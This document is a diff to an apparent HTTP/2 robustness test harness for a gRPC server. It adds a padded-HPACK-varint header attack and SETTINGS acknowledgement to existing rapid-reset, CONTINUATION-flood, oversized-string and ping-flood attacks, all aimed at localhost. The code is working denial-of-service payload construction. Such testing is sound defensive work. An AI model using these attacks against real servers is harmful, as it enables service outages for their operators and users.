@@ -9,7 +9,7 @@ Every attack is bounded by a frame count and a deadline and sends to 127.0.0.1 o
   h2_attacks.py probe PORT [PERIOD [TIMEOUT]]
       the healthy client: SayHello every PERIOD s until stdin closes, then one JSON line:
       latencies and failures
-  h2_attacks.py {rapid-reset,continuation,hpack-string,ping-flood} PORT [SIZE...]
+  h2_attacks.py {rapid-reset,continuation,hpack-string,hpack-varint,ping-flood} PORT [SIZE...]
       one attack by hand, at sizes past what the tests afford; its outcome as JSON
 """
 import json
@@ -106,7 +106,8 @@ class Conn:
     notes how the connection ends. read=False: nothing is read (the server's writes back up
     into a small receive buffer) until drain() is called."""
 
-    def __init__(self, port, read=True, preface=True, hello_settings=True, rcvbuf=None):
+    def __init__(self, port, read=True, preface=True, hello_settings=True, rcvbuf=None,
+                 ack_settings=True):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if rcvbuf:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
@@ -120,6 +121,10 @@ class Conn:
         self.ended_after = None
         self.send_error = None
         self.sent_frames = 0
+        self.ack_settings = ack_settings
+        self.server_settings = {}  # SETTINGS identifier -> value, as the server sent them
+        self._send_lock = threading.Lock()
+        self._pending_acks = 0
         self._buf = b""
         self._lock = threading.Lock()
         self.encoder = hpack.Encoder()
@@ -132,6 +137,12 @@ class Conn:
         self._reader = None
         if read:
             self.start_reading()
+            if preface and ack_settings:
+                # Attack from a settled connection: the server's SETTINGS (its limits) received
+                # and acknowledged, so they apply to what follows (RFC 9113 6.5.3).
+                deadline = time.monotonic() + 5
+                while not self.server_settings and self.end is None and time.monotonic() < deadline:
+                    time.sleep(0.002)
 
     def start_reading(self):
         if self._reader is None:
@@ -165,6 +176,12 @@ class Conn:
             kind = self._buf[i + 3]
             payload = self._buf[i + 9 : i + 9 + length]
             self.frames[kind] = self.frames.get(kind, 0) + 1
+            flags = self._buf[i + 4]
+            if kind == SETTINGS and not flags & ACK:
+                self.server_settings.update(struct.unpack(">HI", payload[j : j + 6])
+                                            for j in range(0, len(payload) - 5, 6))
+            if kind == SETTINGS and not flags & ACK and self.ack_settings:
+                self._ack_settings()  # as a real client would: the server's limits apply
             if kind == GOAWAY and len(payload) >= 8:
                 self.goaway = (ERROR_NAMES.get(int.from_bytes(payload[4:8], "big"),
                                                int.from_bytes(payload[4:8], "big")),
@@ -202,12 +219,28 @@ class Conn:
                 out[fields["grpc-status"]] = out.get(fields["grpc-status"], 0) + 1
         return out
 
+    def _ack_settings(self):
+        # Never wait for the sending thread (it may be blocked on a full socket): if it is
+        # sending, the ACK goes out ahead of its next send.
+        if self._send_lock.acquire(blocking=False):
+            try:
+                if not self.send_error:
+                    self.sock.sendall(settings(ack=True))
+            except OSError:
+                pass
+            finally:
+                self._send_lock.release()
+        else:
+            self._pending_acks += 1
+
     def send(self, data):
         """False once the server has closed or reset the connection."""
         if self.send_error:
             return False
         try:
-            self.sock.sendall(data)
+            with self._send_lock:
+                acks, self._pending_acks = self._pending_acks, 0
+                self.sock.sendall(settings(ack=True) * acks + data)
             return True
         except OSError as e:
             self.send_error = type(e).__name__
@@ -322,11 +355,12 @@ def continuation_flood(port, frames_count, seconds, grow=0, batch=500):
     return out
 
 
-def header_attack(port, block, seconds=5, body=True):
+def header_attack(port, block, seconds=5, body=True, settle=True):
     """One SayHello call whose header block is block (already HPACK-encoded, valid or not),
     then its request message (body=False: none); says what the call got (grpc-status,
-    RST_STREAM) and whether the connection went away."""
-    c = Conn(port)
+    RST_STREAM) and whether the connection went away. settle=False: the server's SETTINGS
+    are never acknowledged, so its SETTINGS_MAX_HEADER_LIST_SIZE is not yet in force."""
+    c = Conn(port, ack_settings=settle)
     c.send_frames([header_block_frames(1, block)])
     if body:
         c.send_frames([frame(DATA, END_STREAM, 1, grpc_message(greeting("x")))])
@@ -343,6 +377,12 @@ def header_attack(port, block, seconds=5, body=True):
 def say_hello_block(encoder, extra):
     """The HPACK block of a SayHello call plus extra, a block of literal fields (bytes)."""
     return encoder.encode(SAY_HELLO) + extra
+
+
+def padded_varint_block(encoder, zeros):
+    """A literal whose name length is an HPACK integer padded with `zeros` continuation bytes
+    that add nothing (0x80: zero, more follows); RFC 7541 sets no limit on them."""
+    return encoder.encode(SAY_HELLO) + b"\x00\x7f" + b"\x80" * zeros + b"\x00"
 
 
 def huge_varint_block(encoder, claimed, sent_bytes):
@@ -560,6 +600,9 @@ def _main(argv):
             continuation_flood(port, int(frames), 60, grow=int(grow)),
         "hpack-string": lambda port, mib="4": header_attack(
             port, huge_varint_block(hpack.Encoder(), 1 << 28, int(float(mib) * (1 << 20))),
+            body=False, seconds=120),
+        "hpack-varint": lambda port, mzeros="2": header_attack(
+            port, padded_varint_block(hpack.Encoder(), int(float(mzeros) * (1 << 20))),
             body=False, seconds=120),
         "ping-flood": lambda port, count="20000": control_flood(port, "ping", int(count), 60),
     }
